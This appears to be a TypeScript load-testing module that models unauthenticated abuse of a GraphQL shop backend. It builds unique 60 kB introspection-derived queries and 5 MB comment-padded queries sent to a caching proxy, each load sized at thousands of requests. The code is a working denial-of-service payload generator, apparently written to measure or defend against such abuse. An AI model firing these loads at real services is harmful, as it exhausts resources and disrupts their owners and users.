/** What an abuser sends without an account: valid requests, made to be dear. */
export interface Load {
  name: string
  requests: number
  /** @returns the status of the answer */
  send(place: number): Promise<number>
}

const post = async (url: string, body: string) => {
  const response = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
  await response.arrayBuffer()
  return response.status
}

/** Documents of 60 kB that can run, no two the same. */
export async function distinctDocuments(url: string): Promise<Load> {
  const fields = await settingsOf(url)
  const selections = `{ ${fields.join(' ')} }`
  const times = Math.floor(60_000 / (selections.length + 40))
  const roots = Array.from(
    { length: times },
    (_, place) => `a${place}: storeConfig @skip(if: true) ${selections}`,
  )
  const document = roots.join(' ').padEnd(60_000)
  return {
    name: 'distinct documents of 60 kB',
    requests: 2_000,
    send: (place) => post(`${url}/graphql`, JSON.stringify({ query: `query Q${place} { ${document} }` })),
  }
}

/** Texts of 5 MB, no two the same, to the proxy that remembers which answers may be kept. */
export function longTexts(url: string): Load {
  const comment = `#${'x'.repeat(5_000_000)}`
  return {
    name: 'distinct texts of 5 MB',
    requests: 1_000,
    send: (place) => post(`${url}/caching/graphql`, `{"query":"query Q${place} { __typename } ${comment}"}`),
  }
}

/** Names of the shop's settings, which is the type with the most plain fields. */
async function settingsOf(url: string): Promise<string[]> {
  const query = '{ __type(name: "StoreConfig") { fields { name type { kind ofType { kind } } } } }'
  const response = await fetch(`${url}/graphql?query=${encodeURIComponent(query)}`)
  const { data } = (await response.json()) as {
    data: { __type: { fields: { name: string; type: { kind: string; ofType: { kind: string } | null } }[] } }
  }
  return data.__type.fields
    .filter(({ type }) => (type.ofType ?? type).kind === 'SCALAR')
    .map(({ name }) => name)
}
